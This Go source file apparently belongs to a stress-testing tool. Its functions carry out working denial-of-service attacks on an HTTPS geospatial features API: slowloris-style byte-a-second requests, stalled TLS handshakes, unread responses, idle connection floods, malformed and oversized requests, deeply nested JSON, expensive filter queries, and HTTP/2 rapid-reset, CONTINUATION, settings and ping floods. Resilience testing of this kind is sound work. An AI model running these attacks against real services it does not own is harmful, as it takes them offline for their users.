package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	webPath  = "/collections/" + featuresName
	webItems = webPath + "/items?numberMatched=false&limit=10000"
)

// dialHTTP connects to the HTTP port, over TLS.
func (e *Enemy) dialHTTP(ctx context.Context, i int, protocol string) (net.Conn, error) {
	raw, err := e.dialTCP(ctx, i, e.target.HTTP)
	if err != nil {
		return nil, err
	}
	c := tls.Client(raw, e.target.tls(protocol))
	if err := c.HandshakeContext(ctx); err != nil {
		raw.Close()
		return nil, err
	}
	return c, nil
}

// webRequest is the head of a request of HTTP/1.1.
func webRequest(method, path string, headers ...string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: attacked\r\n" + strings.Join(append(headers, "", ""), "\r\n")
}

var httpSlow = Attack{
	Name: "http-slow", shows: "bytes", web: true,
	What: "headers and bodies of HTTP requests at a byte a second, and handshakes of TLS that stop",
	run: func(ctx context.Context, e *Enemy) error {
		return e.each(ctx, e.size(300, 9), func(ctx context.Context, i int) error {
			if i%3 == 2 {
				c, err := e.dialTCP(ctx, i, e.target.HTTP)
				if err != nil {
					return err
				}
				_, _ = c.Write([]byte{22, 3, 1, 2, 0, 1}) // the beginning of a hello
				_, err = io.Copy(io.Discard, c)
				return errors.Join(errors.New("closed"), err)
			}
			c, err := e.dialHTTP(ctx, i, "http/1.1")
			if err != nil {
				return err
			}
			defer c.Close()
			head := webRequest("POST", webPath+"/items", "Content-Type: application/geo+json", "Content-Length: 100000")
			if i%3 == 1 {
				if _, err := io.WriteString(c, head); err != nil {
					return err
				}
				head = strings.Repeat(" ", 100_000)
			}
			for _, b := range []byte(head) {
				if _, err := c.Write([]byte{b}); err != nil {
					return err
				}
				e.count("bytes", 1)
				if pause(ctx, time.Second); ctx.Err() != nil {
					break
				}
			}
			return nil
		})
	},
}

var httpUnread = Attack{
	Name: "http-unread", shows: "asked", web: true,
	What: "large pages of features, and tiles, that are asked for in a row and not taken, or at 64 bytes a second",
	run: func(ctx context.Context, e *Enemy) error {
		if err := e.litter(ctx); err != nil {
			return err
		}
		return e.each(ctx, e.size(64, 6), func(ctx context.Context, i int) error {
			c, err := e.dialHTTP(ctx, i, "http/1.1")
			if err != nil {
				return err
			}
			defer c.Close()
			for n := range 16 {
				path := webItems
				if i/2%2 == 1 { // tiles of the south, where the litter is
					path = fmt.Sprintf("%s/tiles/2/%d/%d.mvt?filter=n%%3E%d", webPath, n%4, 2+n/4%2, i)
				}
				if _, err := io.WriteString(c, webRequest("GET", path)); err != nil {
					return err
				}
				e.count("asked", 1)
			}
			for b := make([]byte, 64); ctx.Err() == nil; pause(ctx, time.Second) {
				if i%2 == 0 {
					pause(ctx, unreadTime)
				}
				if _, err := io.ReadFull(c, b); err != nil {
					return err
				}
			}
			return nil
		})
	},
}

var httpIdle = Attack{
	Name: "http-idle", shows: "silent", web: true, flood: true,
	What: "connections to the HTTP port that say nothing",
	run: func(ctx context.Context, e *Enemy) error {
		return e.flood(ctx, func(ctx context.Context, i int) (net.Conn, error) {
			d := net.Dialer{LocalAddr: &net.TCPAddr{IP: e.host(i)}}
			c, err := d.DialContext(ctx, "tcp", e.target.HTTP)
			if err == nil {
				_ = c.(*net.TCPConn).SetLinger(0)
			}
			return c, err
		})
	},
}

// webRubbish are requests that must be refused.
func webRubbish() string {
	long := strings.Repeat("x", 100_000)
	nested := strings.Repeat(`{"a":`, 200_000) + "1" + strings.Repeat("}", 200_000)
	post := func(body string, headers ...string) string {
		return webRequest("POST", webPath+"/items", append(headers, "Content-Type: application/geo+json", fmt.Sprintf("Content-Length: %d", len(body)))...) + body
	}
	all := []string{
		webRequest("GET", "/?"+long), webRequest("GET", "/", "X: "+long), webRequest(long, "/"),
		strings.Repeat("X: y\r\n", 20_000), string(junk(1000)),
		webRequest("GET", webPath+"/items?filter="+strings.Repeat("NOT%20", 5000)+"n=1"),
		webRequest("GET", webPath+"/items?filter-lang=cql2-json&filter="+strings.Repeat("%5B", 10_000)),
		post(nested), post(`{"type":"Feature","geometry":` + strings.Repeat("[", 500_000)), post(`{"type":"Feature","properties":` + nested),
		post("x", "Transfer-Encoding: chunked"), webRequest("POST", webPath+"/items", "Content-Length: -1"),
		webRequest("POST", webPath+"/items", "Content-Type: application/geo+json", "Content-Length: 9999999999999") + "{",
		webRequest("POST", webPath+"/items", "Content-Type: application/geo+json", "Transfer-Encoding: chunked") + "ffffffffffffffff\r\n{",
	}
	return all[rand.IntN(len(all))]
}

var httpMalformed = Attack{
	Name: "http-malformed", shows: "answers", web: true,
	What: "HTTP that is none, lines and headers that are too long, bodies that lie about their length, deeply nested JSON and filters",
	run: func(ctx context.Context, e *Enemy) error {
		return e.each(ctx, e.size(16, 4), func(ctx context.Context, i int) error {
			c, err := e.dialHTTP(ctx, i, "http/1.1")
			if err != nil {
				return err
			}
			defer c.Close()
			go func() { _, _ = io.WriteString(c, webRubbish()) }() // It may be refused before it is whole.
			_ = c.SetReadDeadline(time.Now().Add(time.Second))
			res, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				return err
			}
			defer res.Body.Close()
			if e.count("answers", 1); res.StatusCode < 400 {
				e.count("accepted", 1)
			}
			return nil
		})
	},
}

var httpCostly = Attack{
	Name: "http-costly", shows: "answers", web: true, Slow: true,
	What: "filters and searches of the nearest that look at everything and find nothing, and counts of it",
	run: func(ctx context.Context, e *Enemy) error {
		if err := e.litter(ctx); err != nil {
			return err
		}
		star := make([]string, 0, 1001)
		for i := range 1000 {
			a, r := 2*math.Pi*float64(i)/1000, 20+10*float64(i%2)
			star = append(star, fmt.Sprintf("%.4f %.4f", r*math.Cos(a), south-40+r*math.Sin(a)))
		}
		star = append(star, star[0])
		world := "(-180 -89,180 -89,180 -11,-180 -11,-180 -89)"
		filters := []string{
			"text LIKE '%1%2%3%4%5%x' OR n < 0", strings.Repeat("n < 0 OR ", 60) + "n < 0",
			"NOT S_INTERSECTS(geometry, POLYGON(" + world + ")) AND n < 0",
			"S_WITHIN(geometry, POLYGON((" + strings.Join(star, ",") + "))) OR n < 0",
		}
		return e.each(ctx, e.size(32, 4), func(ctx context.Context, i int) error {
			d := net.Dialer{LocalAddr: &net.TCPAddr{IP: e.host(i)}}
			tr := &http.Transport{DialContext: d.DialContext, TLSClientConfig: e.target.tls(), DisableKeepAlives: i%2 == 0}
			defer tr.CloseIdleConnections()
			for ctx.Err() == nil {
				path := []string{"/items?limit=1&", "/nearest?point=0,-80&limit=10000&"}[rand.IntN(2)] + "filter=" + url.QueryEscape(filters[rand.IntN(len(filters))])
				r, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+e.target.HTTP+webPath+path, http.NoBody)
				if err != nil {
					return err
				}
				res, err := tr.RoundTrip(r)
				if err != nil {
					return err
				}
				_, err = io.Copy(io.Discard, res.Body)
				res.Body.Close()
				if err != nil {
					return err
				}
				if e.count("answers", 1); res.StatusCode != http.StatusOK {
					e.count(fmt.Sprint("status ", res.StatusCode), 1)
				}
			}
			return nil
		})
	},
}

var httpStreams = Attack{
	Name: "http-streams", shows: "streams", web: true,
	What: "event streams of the whole world up to the limit and beyond, none of which is read, while features are written",
	run: func(ctx context.Context, e *Enemy) error {
		if err := e.litter(ctx); err != nil { // Then there are the properties of the filter.
			return err
		}
		go func() {
			for ctx.Err() == nil && e.litter(ctx) == nil {
				e.count("written", 1)
			}
		}()
		return e.each(ctx, e.size(3000, 20), func(ctx context.Context, i int) error {
			c, err := e.dialHTTP(ctx, i, "http/1.1")
			if err != nil {
				return err
			}
			defer c.Close()
			if _, err := io.WriteString(c, webRequest("GET", webPath+"/events?filter="+url.QueryEscape("NOT n < 0 OR text LIKE '%x%'"))); err != nil {
				return err
			}
			res, err := http.ReadResponse(bufio.NewReaderSize(c, 16), nil)
			if err != nil {
				return err
			}
			defer res.Body.Close()
			if res.StatusCode != http.StatusOK {
				e.count("refused", 1)
				return errors.New("refused")
			}
			e.count("streams", 1)
			pause(ctx, unreadTime)
			return nil
		})
	},
}

var http2Floods = Attack{
	Name: "http2-floods", shows: "frames", web: true, flood: true,
	What: "HTTP/2: streams that are reset at once, streams without end, headers without end, settings and pings, none of whose answers are read",
	run: func(ctx context.Context, e *Enemy) error {
		return e.each(ctx, e.size(16, 5), func(ctx context.Context, i int) error {
			c, err := e.dialHTTP(ctx, i, "h2")
			if err != nil {
				return err
			}
			defer c.Close()
			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
				return err
			}
			f := http2.NewFramer(c, c)
			if err := f.WriteSettings(); err != nil {
				return err
			}
			var block bytes.Buffer
			h := hpack.NewEncoder(&block)
			for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "attacked"}, {":path", webItems}} {
				if err := h.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
					return err
				}
			}
			for id := uint32(1); ctx.Err() == nil; id += 2 {
				e.pace.wait(ctx)
				switch i % 5 {
				case 0, 1:
					err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
					if err == nil && i%5 == 0 {
						err = f.WriteRSTStream(id, http2.ErrCodeCancel)
					}
				case 2:
					if id == 1 {
						err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()})
						break
					}
					err = f.WriteContinuation(1, false, []byte{0, 1, 'x', 1, 'y'})
				case 3:
					err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: id})
				case 4:
					err = f.WritePing(false, [8]byte{byte(id)})
				}
				if err != nil {
					return err
				}
				e.count("frames", 1)
			}
			return nil
		})
	},
}
